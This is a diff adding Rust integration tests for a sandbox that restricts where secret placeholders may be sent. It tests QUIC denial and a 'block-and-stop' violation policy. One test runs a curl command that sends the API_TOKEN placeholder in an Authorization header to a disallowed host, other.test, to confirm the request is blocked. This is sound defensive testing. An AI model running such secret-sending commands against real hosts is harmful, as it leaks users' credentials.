@@ -126,7 +126,12 @@ fn a_secret_reaches_only_its_host_over_http1_and_http2_from_curl_and_python() {
     env.ok(&["exec", "agent", "--", "timeout", "10", "python3", "-c", script]);
     assert_eq!(net.dns_queries.load(Ordering::SeqCst), dns_before, "a DNS query carried the placeholder out");
 
+    // QUIC to an intercepted host is refused at once (HTTP/3 clients fall back to TCP).
+    let script = "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('web.test', 443))\ns.send(b'quic?')";
+    env.ok(&["exec", "agent", "--", "python3", "-c", script]);
+
     let events = env.ok(&["events", "agent"]);
+    assert!(events.contains("udp to web.test (203.0.113.10:443) denied by tls interception"), "{events}");
     assert!(events.contains("SecretBlocked") && events.contains("secret API_TOKEN") && events.contains("other.test"), "{events}");
     assert!(events.contains("a DNS query") && events.contains("not intercepted") && events.contains("a TLS server name"), "{events}");
     assert!(events.contains("TlsUpstreamFailed"), "{events}");
@@ -250,4 +255,22 @@ fn a_rotated_secret_reaches_the_running_sandbox_without_a_restart() {
     assert_eq!(env.shim_pid("rot"), shim, "the sandbox restarted");
     let _ = serve.kill();
     let _ = serve.wait();
+}
+
+/// `onViolation: block-and-stop`: the request is refused and the sandbox stopped, saying why.
+#[test]
+fn block_and_stop_stops_the_sandbox_that_sent_its_placeholder_elsewhere() {
+    let net = TestNet::new("tlsstop");
+    let servers = https::HttpsServers::start(&net);
+    let env = env_for(&net, &servers);
+    debian_sandbox(&env, "strict", "  restartPolicy: Always\n  secrets:\n    - { env: API_TOKEN, provider: env, key: TEST_API_TOKEN, allowHosts: [web.test], onViolation: block-and-stop }\n");
+    let (code, out, err) = env.sh("strict", "curl -sS -o /dev/null -w '%{http_code}' -H \"Authorization: $API_TOKEN\" https://other.test/");
+    assert!(code == 0 && out.trim() == "403" || code != 0, "{out} {err}");
+    env.wait_for("the sandbox to stop", std::time::Duration::from_secs(20), || env.status("strict") == "Exited");
+    // Not brought back by its restart policy.
+    env.ok(&["apply", "-f", env.dir.path().join("strict.yaml").to_str().unwrap()]);
+    assert_eq!(env.status("strict"), "Exited");
+    let described = env.ok(&["describe", "strict"]);
+    assert!(described.contains("secret API_TOKEN: its placeholder was sent to other.test (onViolation: block-and-stop)"), "{described}");
+    assert_eq!(servers.other_requests.load(Ordering::SeqCst), 0);
 }
